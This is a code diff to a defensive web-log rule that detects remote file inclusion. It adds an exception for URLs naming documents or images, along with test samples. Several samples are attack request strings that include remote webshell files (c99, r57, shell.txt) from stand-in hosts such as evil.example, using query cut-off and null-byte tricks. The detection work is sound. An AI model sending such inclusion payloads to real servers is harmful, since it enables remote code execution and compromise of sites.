@@ -84,21 +84,39 @@ _SCRIPT = linear_search(Regex(rf"=\s*{_URL}{_TEXT}"))
 # Any URL ending the request in "?": the cut-off trick without a script's name.
 _CUT = linear_search(Regex(rf"=\s*{_URL}[^&\s]+?\?+$"))
 # Any URL, or a text or script file's, in an include parameter.
-_NAMED = linear_search(Regex(rf"{_INCLUDE_NAME}=\s*{_URL}"))
+_NAMED = linear_search(Regex(rf"{_INCLUDE_NAME}=\s*{_URL}[^&\s]*"))
 _NAMED_SCRIPT = linear_search(Regex(rf"{_INCLUDE_NAME}=\s*{_URL}{_TEXT}"))
 # A parameter whose name ends so holds a link, not what a page includes (``page_url=``).
 _LINK_NAMES = ("url", "uri", "link", "href")
+# A URL ending in a document's or a picture's name is what a viewer shows (pdf.js's
+# ``viewer.html?file=https://.../manual.pdf``), not a script a page includes.
+_DOCUMENTS = (
+    ".pdf", ".png", ".jpg", ".jpeg", ".gif", ".svg", ".webp", ".ico", ".mp3", ".mp4", ".webm",
+    ".ogg", ".wav", ".doc", ".docx", ".xls", ".xlsx", ".ppt", ".pptx", ".odt", ".ods", ".epub",
+    ".csv",
+)  # fmt: skip
+
+
+def _names_document(fragment: str) -> bool:
+    """Whether the URL in ``fragment`` ends in a document's name (:data:`_DOCUMENTS`), with
+    no "?" before it: ``x.php?.jpg`` is the cut trick, the application's suffix after it."""
+    return fragment.endswith(_DOCUMENTS) and "?" not in fragment
+
+
 # How many link parameters one field may hold before the rule stops reading on (a longer run
 # of them is reported: the work per line stays bounded).
 _MAX_LINKS = 8
 
 
 def _include_parameter(search: Search, text: str) -> str | None:
-    """The first match of ``search`` in ``text`` whose parameter is no link parameter."""
+    """The first match of ``search`` in ``text`` whose parameter is no link parameter and
+    whose URL names no document (:data:`_DOCUMENTS`)."""
     rest = text
     for _ in range(_MAX_LINKS):
         fragment = search(rest)
-        if fragment is None or not fragment.split("=", 1)[0].endswith(_LINK_NAMES):
+        if fragment is None or not (
+            fragment.split("=", 1)[0].endswith(_LINK_NAMES) or _names_document(fragment)
+        ):
             return fragment
         rest = rest[rest.find(fragment) + len(fragment) :]
     return search(rest)
@@ -114,7 +132,9 @@ class InclusionRemoteUrl(Rule):
     outbound-link parameter (``/out?url=https://www.example.org/page`` answered 302) hands the
     URL to the browser and no include runs; in an include parameter a text or script file
     still counts then. A parameter named for a link (``page_url=``, ``content_link=``) is no
-    include parameter, and a plain link to a web page in any other parameter never counts.
+    include parameter, and a plain link to a web page in any other parameter never counts;
+    nor does a URL in an include parameter that names a document or a picture (``.pdf``,
+    ``.png``): what a viewer shows (a PHP polyglot served as ``.pdf`` is missed for that).
     """
 
     id = "file-inclusion-remote"
@@ -128,6 +148,12 @@ class InclusionRemoteUrl(Rule):
         AccessSample(target="/index.php?page=http://203.0.113.50/shell.txt?"),
         AccessSample(target="/index.php?inc=hTTp%3A%2F%2Fevil.example%2Fc99.txt%3F%3F"),
         AccessSample(target="/main.php?template=https://evil.example/x"),
+        AccessSample(target="/main.php?file=https://evil.example/x.pdf?"),
+        AccessSample(target="/index.php?view=http://evil.example/long_name%3F.jpg"),
+        AccessSample(target="/main.php?file=https://evil.example/x.pdf.php"),
+        AccessSample(
+            target="/main.php?page=https://evil.example/a.pdf&page=https://evil.example/x"
+        ),
         AccessSample(target="/view.php?page=%5c%5c198.51.100.9%5cshare%5cshell.php"),
         AccessSample(target="/view.php?inc=%5C%5Cevil.example%5Cs%5Cx.txt&a=1"),
         AccessSample(target="/index.php?file=http://198.51.100.9/r57.txt%00"),
@@ -154,6 +180,10 @@ class InclusionRemoteUrl(Rule):
         AccessSample(target="/track?page_url=https://www.example.org/article", status=204),
         AccessSample(target="/go?content_link=https://www.example.org/a.html"),
         AccessSample(target="/out?url=https://www.rfc-editor.org/rfc/rfc9110.txt", status=302),
+        AccessSample(
+            target="/pdfjs/web/viewer.html?file=https%3A%2F%2Fcdn.example.com%2Fdocs%2Fmanual.pdf"
+        ),
+        AccessSample(target="/gallery?view=https://cdn.example.com/photos/cat.JPG&size=2"),
     )
 
     def evaluate(self, event: Event, view: EventView) -> RuleMatch | None:
